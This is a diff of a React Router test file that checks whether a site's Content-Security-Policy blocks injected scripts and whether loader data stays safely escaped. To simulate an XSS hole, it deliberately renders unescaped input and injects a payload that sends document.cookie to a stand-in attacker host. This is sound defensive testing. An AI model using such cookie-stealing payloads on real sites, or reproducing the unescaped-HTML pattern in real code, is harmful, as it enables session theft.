@@ -1,9 +1,7 @@
 import { hash } from "node:crypto";
-import { createRequestHandler, Outlet, RouterContextProvider, ScrollRestoration, type ServerBuild } from "react-router";
+import { createRequestHandler, Outlet, RouterContextProvider, Scripts, ScrollRestoration, type ServerBuild } from "react-router";
 import { expect, it } from "vitest";
 import * as entry from "./entry.server.tsx";
-import { documentContext } from "./platform/pages/page-tags.server.ts";
-import { RootScripts } from "./root-scripts.tsx";
 
 /** A field that forgot to escape what somebody typed. */
 const Field = ({ typed }: { typed: string }) => <p dangerouslySetInnerHTML={{ __html: typed }} />;
@@ -14,7 +12,7 @@ function pageWith(typed: string): ServerBuild {
       <body>
         <Outlet />
         <ScrollRestoration />
-        <RootScripts />
+        <Scripts />
       </body>
     </html>
   );
@@ -45,10 +43,9 @@ function pageWith(typed: string): ServerBuild {
 }
 
 async function render(typed: string) {
-  const context = new RouterContextProvider();
-  await createRequestHandler(pageWith(typed), "production")(new Request("http://shop/"), context);
-  const { bytes, policy } = context.get(documentContext)!;
-  return { html: bytes.toString(), policy };
+  const handle = createRequestHandler(pageWith(typed), "production");
+  const response = await handle(new Request("http://shop/"), new RouterContextProvider());
+  return { html: await response.text(), policy: response.headers.get("content-security-policy")! };
 }
 
 const nameOf = (script: string) => `'sha256-${hash("sha256", script, "base64")}'`;
@@ -56,21 +53,24 @@ const nameOf = (script: string) => `'sha256-${hash("sha256", script, "base64")}'
 it("names the program's own scripts in its policy, and none that came into the page with somebody's words", async () => {
   const injected = "fetch('//evil.example/'+document.cookie)";
   const { html, policy } = await render(`<script>${injected}</script>`);
-  const run = [...html.matchAll(/<script>([^]*?)<\/script>/g)].map(([, code]) => code!);
+  const run = [...html.matchAll(/<script[^>]*>([^]*?)<\/script>/g)].map(([, code]) => code!);
   expect(run).toContain(injected);
   expect(policy).not.toContain(nameOf(injected));
   expect(policy).not.toContain("unsafe-inline' 's");
   const own = run.filter((code) => code !== injected);
-  expect(own).toHaveLength(2);
+  expect(own.length).toBeGreaterThan(3);
   for (const code of own) expect(policy).toContain(nameOf(code));
 });
 
-it("has one policy for every page, whatever it shows", async () => {
-  expect((await render("uno")).policy).toBe((await render("<b>dos</b>")).policy);
+it("is the same page each time it is made, so that its ETag lasts", async () => {
+  const [first, second] = [await render("uno"), await render("uno")];
+  expect(second).toEqual(first);
+  expect(first.html).not.toContain("nonce");
 });
 
-it("keeps what the loaders answered as data that cannot end its own script", async () => {
+it("hands over what the loaders answered in a script that it cannot end", async () => {
   const { html } = await render("</script><script>go()</script>");
-  const data = /<script type="application\/json" id="page-data">([^]*?)<\/script>/.exec(html)![1]!;
-  expect(JSON.parse(data)).toContain("</script><script>go()</script>");
+  const handed = /<script>(window\.__reactRouterContext\.streamController\.enqueue[^]*?)<\/script>/.exec(html)![1]!;
+  expect(handed).toContain("\\u003c/script\\u003e");
+  expect(handed).toMatch(/\);$/);
 });
